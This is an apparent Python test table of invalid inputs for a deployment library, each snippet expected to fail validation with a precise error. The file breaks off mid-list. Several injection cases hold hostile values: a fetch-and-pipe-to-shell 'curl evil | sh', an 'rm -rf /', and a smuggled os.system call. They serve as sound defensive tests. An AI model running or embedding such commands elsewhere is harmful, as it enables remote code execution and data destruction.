"""The table of bad inputs: each app snippet must fail with a ShipformError naming path, prop and fix.

Snippets run after PREAMBLE, in a folder that holds the sources of tests/conftest.py:write_sources.
"""

from __future__ import annotations

PREAMBLE = """
from shipform import *
app = App("shop", registry="ghcr.io/acme")
dev = Environment(app, "dev", local=True)
DS = DataStorage("ebs.csi.aws.com")  # databases outside a local Environment keep their volumes
prod = Environment(app, "prod", replicas=3, domain="example.com", unpinned_images="a test app: never pushed",
                   tls_issuer=Issuer(name="internal-ca"), data_storage=DS)
"""

WS = 'WebService(dev, "api", '
PY = 'Build.python("py", ["gunicorn", "app:app"])'

# (case id, snippet, construct path, prop)
WEB_SERVICE_CASES = [
    ("image-and-build", WS + f'image="nginx:1.27.3", build={PY}, port=80)', "shop/dev/api", "image/build"),
    ("neither-image-nor-build", WS + "port=80)", "shop/dev/api", "image/build"),
    ("port-0", WS + 'image="nginx:1.27.3", port=0)', "shop/dev/api", "port"),
    ("port-70000", WS + 'image="nginx:1.27.3", port=70000)', "shop/dev/api", "port"),
    ("port-as-string", WS + 'image="nginx:1.27.3", port="80")', "shop/dev/api", "port"),
    ("bad-dns-id", 'WebService(dev, "Api_1", image="nginx:1.27.3", port=80)', "shop/dev/Api_1", "id"),
    ("latest-tag", WS + 'image="nginx:latest", port=80)', "shop/dev/api", "image"),
    ("untagged-image", WS + 'image="nginx", port=80)', "shop/dev/api", "image"),
    ("negative-cpu", WS + 'image="nginx:1.27.3", port=80, resources=Resources(cpu="-1"))', "shop/dev/api",
     "resources.cpu"),
    ("malformed-memory", WS + 'image="nginx:1.27.3", port=80, resources=Resources(memory="1GB"))', "shop/dev/api",
     "resources.memory"),
    ("request-above-limit", WS + 'image="nginx:1.27.3", port=80, resources=Resources(cpu="2", cpu_limit="1"))',
     "shop/dev/api", "resources.cpu_limit"),
    ("limits-above-default-namespace-maximum", WS + 'image="nginx:1.27.3", port=80, resources=Resources(cpu="1", '
     'cpu_limit="8"))', "shop/dev/api", "resources"),
    ("autoscale-min-above-max", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale(min=5, max=2))',
     "shop/dev/api", "autoscale"),
    ("public-without-host-or-domain", WS + 'image="nginx:1.27.3", port=80, public=True)', "shop/dev/api", "public"),
    ("host-without-public", WS + 'image="nginx:1.27.3", port=80, host="api.example.com")', "shop/dev/api", "host"),
    ("bad-host", 'WebService(prod, "api", image="nginx:1.27.3", port=80, public=True, host="Shop!")',
     "shop/prod/api", "host"),
    ("secret-value-in-env", WS + 'image="nginx:1.27.3", port=80, env={"DB_PASSWORD": "hunter2-value"})',
     "shop/dev/api", "env.DB_PASSWORD"),
    ("token-value-in-env", WS + 'image="nginx:1.27.3", port=80, env={"GITHUB_TOKEN": "ghp_value"})',
     "shop/dev/api", "env.GITHUB_TOKEN"),
    ("secret-literal-in-secrets", WS + 'image="nginx:1.27.3", port=80, secrets={"TOKEN": "s3cr3t-value"})',
     "shop/dev/api", "secrets.TOKEN"),
    ("bad-env-name", WS + 'image="nginx:1.27.3", port=80, env={"1BAD": "x"})', "shop/dev/api", "env"),
    ("duplicate-id", WS + 'image="nginx:1.27.3", port=80)\n' + WS + 'image="nginx:1.27.3", port=81)',
     "shop/dev/api", "id"),
    ("unknown-preset-layout", WS + 'build=Build.python("node", ["python", "x.py"]), port=80)', "shop/dev/api",
     "build"),
    ("missing-build-context", WS + 'build=Build.node("nowhere", ["node", "s.js"]), port=80)', "shop/dev/api",
     "build.context"),
    ("inexact-language-version", WS + 'build=Build.python("py", ["x"], version="3.12"), port=80)', "shop/dev/api",
     "build.version"),
    ("bad-base-digest", WS + 'build=Build.go("go", base_digest="sha256:abc"), port=80)', "shop/dev/api",
     "build.base_digest"),
    ("python-without-command", WS + 'build=Build.python("py"), port=80)', "shop/dev/api", "command"),
    ("command-as-string", WS + 'image="nginx:1.27.3", port=80, command="nginx -g daemon")', "shop/dev/api",
     "command"),
    ("connects-to-a-string", WS + 'image="nginx:1.27.3", port=80, connects_to=["db"])', "shop/dev/api",
     "connects_to[0]"),
    ("connects-across-environments",
     'db = WebService(prod, "db", image="nginx:1.27.3", port=5432)\n' + WS + 'image="nginx:1.27.3", port=80, '
     "connects_to=[db])", "shop/dev/api", "connects_to"),
    ("health-path-without-slash", WS + 'image="nginx:1.27.3", port=80, health=Health.http("healthz"))',
     "shop/dev/api", "health.path"),
    ("health-timeout-not-below-period",
     WS + 'image="nginx:1.27.3", port=80, health=Health.tcp(timeout_seconds=10, period_seconds=5))', "shop/dev/api",
     "health.timeout_seconds"),
    ("zero-replicas", WS + 'image="nginx:1.27.3", port=80, replicas=0)', "shop/dev/api", "replicas"),
    ("relative-writable-path", WS + 'image="nginx:1.27.3", port=80, writable_paths=["tmp"])', "shop/dev/api",
     "writable_paths[0]"),
    ("dockerfile-differs-between-environments",
     'WebService(dev, "api", build=Build.python("py", ["a"]), port=80)\n'
     'WebService(prod, "api", build=Build.python("py", ["b"]), port=80)', "shop/prod/api", "build"),
    ("second-local-environment", 'Environment(app, "test", local=True)', "shop/test", "local"),
    ("bad-environment-name", 'Environment(app, "Prod")', "shop/Prod", "name"),
    ("unsigned-images-on-a-local-environment",
     'other = App("other", registry="ghcr.io/acme")\n'
     'Environment(other, "dev", local=True, unsigned_images="the cluster runs no policy-controller yet")',
     "other/dev", "unsigned_images"),
    ("unsigned-images-without-a-reason", 'Environment(app, "stage", unsigned_images="later")', "shop/stage",
     "unsigned_images"),
    ("json-patch-that-does-not-apply",
     WS + 'image="nginx:1.27.3", port=80).deployment.add_json_patch({"op": "remove", "path": "/nope"})',
     "shop/dev/api/Deployment", "add_json_patch"),
]

SECRET_VALUES = ("hunter2-value", "ghp_value", "s3cr3t-value")
"""Literal credentials used above: they must not appear in any error message either."""

CJ = 'CronJob(dev, "report", image="busybox:1.37.0", command=["true"], '
NS = 'team = SecureNamespace(dev, "team")\n'

NAMESPACE_AND_JOB_CASES = [
    ("cron-minute-61", CJ + 'schedule="61 * * * *")', "shop/dev/report", "schedule"),
    ("cron-three-fields", CJ + 'schedule="* * *")', "shop/dev/report", "schedule"),
    ("cron-six-fields", CJ + 'schedule="0 0 * * * *")', "shop/dev/report", "schedule"),
    ("cron-reboot-macro", CJ + 'schedule="@reboot")', "shop/dev/report", "schedule"),
    ("cron-not-a-string", CJ + "schedule=60)", "shop/dev/report", "schedule"),
    ("schedule-on-a-job", 'Job(dev, "seed", image="busybox:1.37.0", command=["true"], schedule="@daily")',
     "shop/dev/seed", "schedule"),
    ("cron-with-build-and-image", 'CronJob(dev, "report", schedule="@daily", image="busybox:1.37.0", '
     'build=Build.python("py", ["x"]))', "shop/dev/report", "image/build"),
    ("negative-history-limit", CJ + 'schedule="@daily", successful_jobs_history_limit=-1)', "shop/dev/report",
     "successful_jobs_history_limit"),
    ("unknown-time-zone", CJ + 'schedule="@daily", time_zone="Mars/Olympus")', "shop/dev/report", "time_zone"),
    ("bad-concurrency-policy", CJ + 'schedule="@daily", concurrency_policy="Sometimes")', "shop/dev/report",
     "concurrency_policy"),
    ("negative-backoff-limit", CJ + 'schedule="@daily", backoff_limit=-1)', "shop/dev/report", "backoff_limit"),
    ("health-on-a-cron-job", CJ + 'schedule="@daily", health=Health.tcp())', "shop/dev/report", "health"),
    ("http-health-on-a-worker", 'Worker(dev, "mailer", image="busybox:1.37.0", health=Health.http("/"))',
     "shop/dev/mailer", "health"),
    ("image-of-without-command",
     'api = WebService(dev, "api", image="nginx:1.27.3", port=80)\nJob(dev, "seed", image_of=api)',
     "shop/dev/seed", "command"),
    ("image-of-another-environment",
     'api = WebService(prod, "api", image="nginx:1.27.3", port=80)\n'
     'Job(dev, "seed", image_of=api, command=["x"])', "shop/dev/seed", "image_of"),
    ("connects-across-namespaces-unaccepted",
     NS + 'back = SecureNamespace(dev, "back")\ndb = WebService(back, "db", image="nginx:1.27.3", port=5432)\n'
     'WebService(team, "api", image="nginx:1.27.3", port=80, connects_to=[db])', "shop/dev/team/api",
     "connects_to"),
    ("quota-below-declared-requests",
     'team = SecureNamespace(dev, "team", quota=Quota(cpu="100m"))\n'
     'WebService(team, "api", image="nginx:1.27.3", port=80)', "shop/dev/team", "quota.cpu"),
    ("quota-pods-below-replicas",
     'team = SecureNamespace(prod, "team", quota=Quota(pods=2))\n'
     'WebService(team, "api", image="nginx:1.27.3", port=80)', "shop/prod/team", "quota.pods"),
    ("quota-malformed-memory", 'SecureNamespace(dev, "team", quota=Quota(memory="8GB"))', "shop/dev/team",
     "quota.memory"),
    ("limits-above-namespace-maximum",
     NS + 'WebService(team, "api", image="nginx:1.27.3", port=80, resources=Resources(cpu_limit="8"))',
     "shop/dev/team/api", "resources"),
    ("namespace-bad-id", 'SecureNamespace(dev, "Team_1")', "shop/dev/Team_1", "id"),
    ("deployer-as-plain-string", 'SecureNamespace(dev, "team", deployers=["ci"])', "shop/dev/team",
     "deployers[0]"),
    ("unpinned-pod-security-version", 'SecureNamespace(dev, "team", pod_security_version="latest")',
     "shop/dev/team", "pod_security_version"),
    ("unknown-gitops-tool", 'Environment(app, "stage", gitops="helm")', "shop/stage", "gitops"),
    ("migration-command-as-string",
     'WebService(dev, "api", image="nginx:1.27.3", port=80, migrate=Migration("migrate now"))', "shop/dev/api",
     "migrate.command"),
]

DB = 'StatefulDB(dev, "db", '
PG = DB + 'engine="postgres", version="16", '

STATEFUL_DB_CASES = [
    ("unknown-engine", DB + 'engine="oracle", version="19")', "shop/dev/db", "engine"),
    ("latest-version", DB + 'engine="postgres", version="latest")', "shop/dev/db", "version"),
    ("unsupported-version", DB + 'engine="postgres", version="9.6")', "shop/dev/db", "version"),
    ("version-as-number", DB + 'engine="postgres", version=16)', "shop/dev/db", "version"),
    ("storage-in-gigabytes", PG + 'storage="10GB")', "shop/dev/db", "storage"),
    ("negative-storage", PG + 'storage="-1Gi")', "shop/dev/db", "storage"),
    ("bad-image-digest", PG + 'digest="sha256:1234")', "shop/dev/db", "digest"),
    ("bad-access-mode", PG + 'access_mode="ReadWriteAlways")', "shop/dev/db", "access_mode"),
    ("bad-storage-class", PG + 'storage_class="Fast SSD")', "shop/dev/db", "storage_class"),
    ("bad-database-name", PG + 'database="Shop DB")', "shop/dev/db", "database"),
    ("bad-env-prefix", PG + 'env_prefix="1DB")', "shop/dev/db", "env_prefix"),
    ("password-as-a-literal", PG + 'password="hunter2-value")', "shop/dev/db", "password"),
    ("backup-schedule-not-cron", PG + 'backup=Backup(schedule="every night"))', "shop/dev/db", "backup.schedule"),
    ("backup-retention-zero", PG + 'backup=Backup(schedule="@daily", retention=0))', "shop/dev/db",
     "backup.retention"),
    ("backup-size-malformed", PG + 'backup=Backup(schedule="@daily", size="1TB"))', "shop/dev/db", "backup.size"),
    ("drill-schedule-not-cron", PG + 'backup=Backup(schedule="@daily", drill=Drill(schedule="weekly-ish")))',
     "shop/dev/db", "backup.drill.schedule"),
    ("drill-a-string", PG + 'backup=Backup(schedule="@daily", drill="0 5 * * 0"))', "shop/dev/db", "backup.drill"),
    ("drill-check-two-lines", PG + 'backup=Backup(schedule="@daily", drill=Drill("@weekly", check="SELECT 1\\nSELECT 2'
     '")))', "shop/dev/db", "backup.drill.check"),
    ("drill-check-blank", PG + 'backup=Backup(schedule="@daily", drill=Drill("@weekly", check="  ")))', "shop/dev/db",
     "backup.drill.check"),
    ("drill-unknown-field", PG + 'backup=Backup(schedule="@daily", drill=Drill("@weekly", query="SELECT 1")))',
     "shop/dev/db", "backup.drill.query"),
    ("drill-on-mysql", DB + 'engine="mysql", version="8.4", backup=Backup(schedule="@daily", drill=Drill("@weekly")))',
     "shop/dev/db", "backup.drill"),
    ("backup-bucket-name-invalid",
     PG + 'backup=Backup(schedule="@daily", to=S3Target(bucket="Shop_Backups", credentials=SecretRef("s3", "c"))))',
     "shop/dev/db", "backup.to.bucket"),
    ("backup-credentials-as-a-literal",
     PG + 'backup=Backup(schedule="@daily", to=S3Target(bucket="shop", credentials="AKIA-hunter2-value")))',
     "shop/dev/db", "backup.to.credentials"),
    ("backup-endpoint-over-http",
     PG + 'backup=Backup(schedule="@daily", to=S3Target(bucket="shop", credentials=SecretRef("s3", "c"), '
     'endpoint="http://minio:9000")))', "shop/dev/db", "backup.to.endpoint"),
    ("connects-to-a-worker",
     'w = Worker(dev, "mailer", image="busybox:1.37.0", health=Health.none("exits on broken queue"))\n'
     'WebService(dev, "api", image="nginx:1.27.3", port=80, connects_to=[w])', "shop/dev/api", "connects_to"),
    ("connects-to-a-namespace",
     'ns = SecureNamespace(dev, "team")\nWebService(dev, "api", image="nginx:1.27.3", port=80, connects_to=[ns])',
     "shop/dev/api", "connects_to[0]"),
    ("literal-password-in-env",
     'WebService(dev, "api", image="nginx:1.27.3", port=80, env={"POSTGRES_PASSWORD": "hunter2-value"})',
     "shop/dev/api", "env.POSTGRES_PASSWORD"),
    ("secret-store-bad-kind", 'Environment(app, "stage", secret_store=SecretStore("vault", kind="Vault"))',
     "shop/stage", "secret_store.kind"),
    ("secret-store-bad-remote-key",
     'Environment(app, "stage", secret_store=SecretStore("vault", remote_key="{team}/{secret}"))', "shop/stage",
     "secret_store.remote_key"),
    ("secret-store-cluster-store-not-rendered",
     'Environment(app, "stage", secret_store=SecretStore("vault", kind="ClusterSecretStore"))', "shop/stage",
     "secret_store.kind"),
    ("secret-store-two-providers",
     'Environment(app, "stage", secret_store=SecretStore("vault", provider={"vault": {}, "aws": {}}))', "shop/stage",
     "secret_store.provider"),
    ("pull-secret-bad-name", 'Environment(app, "stage", pull_secret=PullSecret("GHCR_pull"))', "shop/stage",
     "pull_secret.name"),
    ("pull-secret-as-a-string", 'Environment(app, "stage", pull_secret="ghcr-pull")', "shop/stage", "pull_secret"),
    ("pull-secret-existing-not-a-bool",
     'Environment(app, "stage", pull_secret=PullSecret("ghcr-pull", existing="yes"))', "shop/stage",
     "pull_secret.existing"),
    ("pull-secret-on-a-local-environment",
     'o = App("other", registry="ghcr.io/acme")\n'
     'Environment(o, "dev", local=True, pull_secret=PullSecret("ghcr-pull"))',
     "other/dev", "pull_secret"),
    ("pull-secret-named-as-a-workloads-secret",
     's = Environment(app, "stage", pull_secret=PullSecret("payments"))\n'
     'WebService(s, "api", image="nginx:1.27.3", port=80, secrets={"KEY": SecretRef("payments", "key")})',
     "shop/stage/api", "secrets"),
    ("pull-secret-on-a-local-namespace", 'SecureNamespace(dev, "team", pull_secret=PullSecret("ghcr-pull"))',
     "shop/dev/team", "pull_secret"),
]

APP_CASES = [
    ("app-bad-name", 'App("Shop!", registry="ghcr.io/acme")', "Shop!", "name"),
    ("app-registry-with-tag", 'App("shop2", registry="ghcr.io/acme:1")', "shop2", "registry"),
    ("app-latest-version", 'App("shop2", registry="ghcr.io/acme", version="latest")', "shop2", "version"),
    ("construct-outside-an-environment", 'WebService(app, "api", image="nginx:1.27.3", port=80)', "shop/api", "scope"),
    ("two-objects-with-one-name",
     'StatefulDB(dev, "db", engine="postgres", version="16")\n'
     'WebService(dev, "db-headless", image="nginx:1.27.3", port=80)', "shop/dev/db-headless", "id"),
    ("environment-bad-domain", 'Environment(app, "stage", domain="Shop Example")', "shop/stage", "domain"),
    ("duplicate-environment", 'Environment(app, "dev")', "shop/dev", "name"),
    ("build-not-a-build", 'WebService(dev, "api", build="services/api", port=80)', "shop/dev/api", "build"),
    ("requests-below-namespace-minimum",
     'team = SecureNamespace(dev, "team")\n'
     'WebService(team, "api", image="nginx:1.27.3", port=80, resources=Resources(cpu="1m"))', "shop/dev/team/api",
     "resources"),
    ("backup-to-a-bucket-name", PG + 'backup=Backup(schedule="@daily", to="s3://x"))',
     "shop/dev/db", "backup.to"),
    ("environment-zero-replicas", 'Environment(app, "stage", replicas=0)', "shop/stage", "replicas"),
]

ALL_CASES = WEB_SERVICE_CASES + NAMESPACE_AND_JOB_CASES + STATEFUL_DB_CASES + APP_CASES

# Rules the API server, compose or the CronJob controller apply, which synth must apply first.
LONG = "a" * 53
API_SERVER_CASES = [
    ("service-name-starts-with-a-digit", 'WebService(dev, "1api", image="nginx:1.27.3", port=80)', "shop/dev/1api",
     "id"),
    ("db-headless-name-too-long", 'StatefulDB(dev, "d' + "b" * 54 + '", engine="redis", version="7.4")',
     "shop/dev/d" + "b" * 54, "id"),
    ("statefulset-name-over-52", f'StatefulDB(dev, "{LONG}", engine="redis", version="7.4")', f"shop/dev/{LONG}",
     "id"),
    ("cron-job-name-over-52", f'CronJob(dev, "{LONG}", image="busybox:1.37.0", schedule="@daily")',
     f"shop/dev/{LONG}", "id"),
    ("backup-cron-job-name-over-52", 'StatefulDB(dev, "' + "d" * 47 + '", engine="postgres", version="16", '
     'backup=Backup(schedule="@daily"))', "shop/dev/" + "d" * 47, "id"),
    ("migration-job-name-over-63", 'WebService(dev, "' + "w" * 57 + '", image="nginx:1.27.3", port=80, '
     'migrate=Migration(["true"]))', "shop/dev/" + "w" * 57 + "-migrate", "id"),
    ("replicas-over-int32", WS + 'image="nginx:1.27.3", port=80, replicas=2**31)', "shop/dev/api", "replicas"),
    ("uid-over-int32", WS + 'image="nginx:1.27.3", port=80, run_as_user=2**31)', "shop/dev/api", "run_as_user"),
    ("autoscale-max-over-int32", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale(max=2**31))',
     "shop/dev/api", "autoscale.max"),
    ("deadline-over-int32", 'Job(dev, "seed", image="busybox:1.37.0", active_deadline_seconds=2**40)',
     "shop/dev/seed", "active_deadline_seconds"),
    ("version-ends-with-dash", 'App("other", registry="ghcr.io/acme", version="1.0.0-")', "other", "version"),
    ("version-as-a-number", 'App("other", registry="ghcr.io/acme", version=1.0)', "other", "version"),
    ("version-over-63", 'App("other", registry="ghcr.io/acme", version="1." + "0" * 70)', "other", "version"),
    ("version-with-a-digest", 'App("other", registry="ghcr.io/acme", version="1.0.0@sha256:' + "a" * 64 + '")',
     "other", "version"),
    ("upper-case-registry", 'App("other", registry="ghcr.io/Acme")', "other", "registry"),
    ("base-registry-with-a-tag", 'App("other", registry="ghcr.io/acme", base_registry="mirror.acme.io/hub:1")',
     "other", "base_registry"),
    ("base-registry-ending-in-a-slash", 'App("other", registry="ghcr.io/acme", base_registry="mirror.acme.io/")',
     "other", "base_registry"),
    ("base-registry-without-a-host", 'App("other", registry="ghcr.io/acme", base_registry="acme/dockerhub")',
     "other", "base_registry"),
    ("base-registry-upper-case", 'App("other", registry="ghcr.io/acme", base_registry="Mirror.acme.io/hub")',
     "other", "base_registry"),
    ("base-registry-is-docker-hub", 'App("other", registry="ghcr.io/acme", base_registry="docker.io")',
     "other", "base_registry"),
    ("base-registry-empty", 'App("other", registry="ghcr.io/acme", base_registry="")', "other", "base_registry"),
    ("base-registry-with-a-digest", 'App("other", registry="ghcr.io/acme", base_registry="mirror.acme.io@sha256:'
     + "a" * 64 + '")', "other", "base_registry"),
    ("two-apps-with-one-name", 'App("shop", registry="ghcr.io/other")', "shop", "name"),
    ("pod-security-version-not-v1-n", 'SecureNamespace(dev, "team", pod_security_version="1.33")',
     "shop/dev/team", "pod_security_version"),
    ("pod-security-version-v2", 'SecureNamespace(dev, "team", pod_security_version="v2.0")', "shop/dev/team",
     "pod_security_version"),
    ("limit-range-default-above-max", 'SecureNamespace(dev, "team", container_max=("4", "200Mi"))',
     "shop/dev/team", "container_defaults"),
    ("limit-range-min-above-default", 'SecureNamespace(dev, "team", container_min=("1", "16Mi"))',
     "shop/dev/team", "container_defaults"),
    ("subject-kind-invalid", 'SecureNamespace(dev, "team", deployers=[Subject("Robot", "r2")])', "shop/dev/team",
     "deployers[0].kind"),
    ("service-account-namespace-invalid",
     'SecureNamespace(dev, "team", deployers=[Subject.service_account("Argo CD", "x")])', "shop/dev/team",
     "deployers[0].namespace"),
    ("group-with-a-namespace", 'SecureNamespace(dev, "team", viewers=[Subject("Group", "devs", "ns")])',
     "shop/dev/team", "viewers[0].namespace"),
    ("refresh-interval-not-a-go-duration",
     'Environment(app, "stage", secret_store=SecretStore("vault", refresh_interval="1 hour"))', "shop/stage",
     "secret_store.refresh_interval"),
    ("storage-class-not-a-subdomain", PG + 'storage_class="Fast SSD")', "shop/dev/db", "storage_class"),
    ("quota-storage-too-small", NS + 'StatefulDB(team, "db", engine="postgres", version="16", storage="200Gi")',
     "shop/dev/team", "quota.storage"),
    ("quota-claims-too-few", 'team = SecureNamespace(dev, "team", quota=Quota(persistent_volume_claims=1))\n'
     'StatefulDB(team, "db", engine="postgres", version="16", backup=Backup(schedule="@daily"))',
     "shop/dev/team", "quota.persistent_volume_claims"),
]
ALL_CASES += API_SERVER_CASES

# Strings that reach a Dockerfile, a probe program or a shell stay data; values that would collide refuse.
INJECTION_AND_COLLISION_CASES = [
    ("go-package-adds-an-instruction", WS + 'build=Build.go("go", package="./cmd\\nRUN curl evil | sh"), port=80)',
     "shop/dev/api", "build.package"),
    ("go-package-with-a-space", WS + 'build=Build.go("go", package="./cmd; rm -rf /"), port=80)', "shop/dev/api",
     "build.package"),
    ("build-command-with-a-newline", WS + 'build=Build.node("node", ["node", "s.js"], build_command=["npm", '
     '"run", "build\\nRUN curl evil"]), port=80)', "shop/dev/api", "build.build_command"),
    ("build-command-as-a-string", WS + 'build=Build.node("node", ["node", "s.js"], build_command="npm run build"), '
     'port=80)', "shop/dev/api", "build.build_command"),
    ("build-command-string-is-not-chars", WS + 'build=Build.python("py", "gunicorn app:app"), port=80)',
     "shop/dev/api", "build.command"),
    ("probe-path-with-a-quote", WS + 'build=Build.python("py", ["x"]), port=80, health=Health.http(\'/h"); '
     'import os; os.system("x\'))', "shop/dev/api", "health.path"),
    ("probe-path-with-a-space", WS + 'image="nginx:1.27.3", port=80, health=Health.http("/health check"))',
     "shop/dev/api", "health.path"),
    ("health-kind-unknown", WS + 'image="nginx:1.27.3", port=80, health=Health("udp"))', "shop/dev/api",
     "health.kind"),
    ("health-timing-a-string", WS + 'image="nginx:1.27.3", port=80, health=Health.http("/", period_seconds="10"))',
     "shop/dev/api", "health.period_seconds"),
    ("build-context-outside-the-app", WS + 'build=Build.python("../../etc", ["x"]), port=80)', "shop/dev/api",
     "build.context"),
    ("writable-paths-same-volume", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/var/cache", '
     '"/var_cache"])', "shop/dev/api", "writable_paths[1]"),
    ("writable-paths-twice", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/tmp", "/tmp/"])',
     "shop/dev/api", "writable_paths[1]"),
    ("writable-path-volume-name-too-long", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/' + "x" * 70
     + '"])', "shop/dev/api", "writable_paths[0]"),
    ("resources-cpu-a-float", WS + 'image="nginx:1.27.3", port=80, resources=Resources(cpu=0.5))', "shop/dev/api",
     "resources.cpu"),
    ("resources-a-dict", WS + 'image="nginx:1.27.3", port=80, resources={"cpu": "1"})', "shop/dev/api",
     "resources"),
    ("secret-ref-key-a-number", WS + 'image="nginx:1.27.3", port=80, secrets={"TOKEN": SecretRef("s", 1)})',
     "shop/dev/api", "secrets.TOKEN.key"),
    ("quota-pods-a-string", 'SecureNamespace(dev, "team", quota=Quota(pods="50"))', "shop/dev/team", "quota.pods"),
    ("migration-command-a-string", WS + 'image="nginx:1.27.3", port=80, migrate=Migration("python -m migrate"))',
     "shop/dev/api", "migrate.command"),
    ("backup-retention-a-string", PG + 'backup=Backup(schedule="@daily", retention="7"))', "shop/dev/db",
     "backup.retention"),
    ("port-list", WS + 'image="nginx:1.27.3", port=[3000, 9090])', "shop/dev/api", "port"),
    ("public-a-string", WS + 'image="nginx:1.27.3", port=80, public="false")', "shop/dev/api", "public"),
    ("health-a-string", WS + 'image="nginx:1.27.3", port=80, health="/healthz")', "shop/dev/api", "health"),
    ("secrets-a-list", WS + 'image="nginx:1.27.3", port=80, secrets=[SecretRef("s", "k")])', "shop/dev/api",
     "secrets"),
    ("connects-to-not-a-list", 'db = StatefulDB(dev, "db", engine="redis", version="7.4")\n' + WS
     + 'image="nginx:1.27.3", port=80, connects_to=db)', "shop/dev/api", "connects_to"),
    ("connects-to-none", WS + 'image="nginx:1.27.3", port=80, connects_to=None)', "shop/dev/api", "connects_to"),
    ("pod-security-version-a-float", 'SecureNamespace(dev, "team", pod_security_version=1.33)', "shop/dev/team",
     "pod_security_version"),
    ("cron-day-of-week-7", CJ + 'schedule="0 0 * * 7")', "shop/dev/report", "schedule"),
    ("cron-last-day", CJ + 'schedule="0 0 L * *")', "shop/dev/report", "schedule"),
    ("cron-nth-weekday", CJ + 'schedule="0 0 * * 1#2")', "shop/dev/report", "schedule"),
    ("cron-reversed-range", CJ + 'schedule="30-10 * * * *")', "shop/dev/report", "schedule"),
]
ALL_CASES += INJECTION_AND_COLLISION_CASES

# What the local Environment's compose file would refuse or get wrong.
LOCAL_CASES = [
    ("two-envs-same-prefix", 'a = StatefulDB(dev, "a", engine="redis", version="7.4", env_prefix="DB")\n'
     'b = StatefulDB(dev, "b", engine="redis", version="7.4", env_prefix="DB")\n'
     + WS + 'image="nginx:1.27.3", port=80, connects_to=[a, b])', "shop/dev/api", "connects_to"),
    # compose has one namespace: 'api' of x and of y become x-api and y-api there, which x's own 'y-api' is already.
    ("compose-name-clash-across-namespaces", 'x = SecureNamespace(dev, "x")\ny = SecureNamespace(dev, "y")\n'
     'WebService(x, "api", image="nginx:1.27.3", port=80)\nWebService(y, "api", image="nginx:1.27.3", port=81)\n'
     'WebService(x, "y-api", image="nginx:1.27.3", port=82)', "shop/dev/x/y-api", "id"),
    ("two-public-services-one-host-port",
     'dev2 = Environment(app, "local2", domain="d.example.com")\n'
     'app2 = App("two", registry="ghcr.io/acme")\nlocal = Environment(app2, "dev", local=True, domain="e.com")\n'
     'WebService(local, "a", image="nginx:1.27.3", port=80, public=True)\n'
     'WebService(local, "b", image="nginx:1.27.3", port=80, public=True)', "two/dev/b", "port"),
    ("connects-to-loop-locally", 'a = WebService(dev, "a", image="nginx:1.27.3", port=80)\n'
     'b = WebService(dev, "b", image="nginx:1.27.3", port=81, connects_to=[a])\n'
     'a.connects_to.append(b)', "shop/dev/a", "connects_to"),
    ("database-with-a-space", PG + 'database="my db")', "shop/dev/db", "database"),
    ("user-over-32", PG + 'user="u' + "x" * 32 + '")', "shop/dev/db", "user"),
]
ALL_CASES += LOCAL_CASES

# Found by the property-based test (tests/unit/test_random_apps.py).
FOUND_BY_RANDOM_APPS = [
    ("writable-path-over-the-secrets-mount", WS + 'image="nginx:1.27.3", port=80, writable_paths=["/run/secrets"], '
     'secrets={"TOKEN": SecretRef("s", "k")})', "shop/dev/api", "writable_paths[0]"),
    ("two-secret-keys-one-file", WS + 'image="nginx:1.27.3", port=80, secrets={"A": SecretRef("app.secrets", "key"), '
     '"B": SecretRef("app", "secrets.key")})', "shop/dev/api", "secrets.B"),
    ("two-public-services-one-host", 'WebService(prod, "a", image="nginx:1.27.3", port=80, public=True, '
     'host="shop.example.com")\nWebService(prod, "b", image="nginx:1.27.3", port=81, public=True, '
     'host="shop.example.com")', "shop/prod/b", "host"),
    ("a-workload-named-like-a-flux-migration", 'app2 = App("two", registry="ghcr.io/acme")\n'
     'local = Environment(app2, "dev", local=True, gitops="flux")\n'
     'WebService(local, "api", image="nginx:1.27.3", port=80, migrate=Migration(["m"]))\n'
     'Job(local, "api-migrate", image="busybox:1.37.0", command=["true"])', "two/dev/api-migrate", "id"),
]
ALL_CASES += FOUND_BY_RANDOM_APPS
FOUND_BY_RANDOM_APPS += [
    ("local-id-x-dash", WS.replace('"api"', '"x-ray"') + 'image="nginx:1.27.3", port=80)', "shop/dev/x-ray", "id"),
    ("mysql-user-root", DB + 'engine="mysql", version="8.4", user="root")', "shop/dev/db", "user"),
]
ALL_CASES += FOUND_BY_RANDOM_APPS[-2:]
IMG = WS + 'image="nginx:1.27.3", port=80, '
CONFIG_CASES = [
    ("config-credential-name", IMG + 'config={"API_TOKEN": "abc"})', "shop/dev/api", "config.API_TOKEN"),
    ("config-url-with-password", IMG + 'config={"DATABASE_URL": "postgres://app:hunter2-value@db/app"})',
     "shop/dev/api", "config.DATABASE_URL"),
    ("env-url-with-password", IMG + 'env={"DATABASE_URL": "postgres://app:hunter2-value@db/app"})', "shop/dev/api",
     "env.DATABASE_URL"),
    ("config-aws-key-id", IMG + 'config={"S3_ID": "AKIAIOSFODNN7EXAMPLE"})', "shop/dev/api", "config.S3_ID"),
    ("config-also-in-env", IMG + 'env={"MODE": "a"}, config={"MODE": "b"})', "shop/dev/api", "config.MODE"),
    ("config-bad-name", IMG + 'config={"1MODE": "a"})', "shop/dev/api", "config"),
    ("files-relative-mount-path", IMG + 'files={"etc/app.yaml": "config/app.yaml"})', "shop/dev/api", "files"),
    ("files-mount-path-with-dotdot", IMG + 'files={"/etc/../app.yaml": "config/app.yaml"})', "shop/dev/api",
     "files"),
    ("files-mount-path-with-space", IMG + 'files={"/etc/my app.yaml": "config/app.yaml"})', "shop/dev/api",
     "files"),
    ("files-absolute-source", IMG + 'files={"/etc/app.yaml": "/etc/hostname"})', "shop/dev/api",
     "files./etc/app.yaml"),
    ("files-missing-source", IMG + 'files={"/etc/app.yaml": "config/missing.yaml"})', "shop/dev/api",
     "files./etc/app.yaml"),
    ("files-source-outside-app", IMG + 'files={"/etc/app.yaml": "../outside.yaml"})', "shop/dev/api",
     "files./etc/app.yaml"),
    ("files-folder-source", IMG + 'files={"/etc/app.yaml": "config"})', "shop/dev/api", "files./etc/app.yaml"),
    ("files-binary-source", IMG + 'files={"/etc/app.bin": "config/binary.bin"})', "shop/dev/api",
     "files./etc/app.bin"),
    ("files-private-key", IMG + 'files={"/etc/tls/key.pem": "config/tls.pem"})', "shop/dev/api",
     "files./etc/tls/key.pem"),
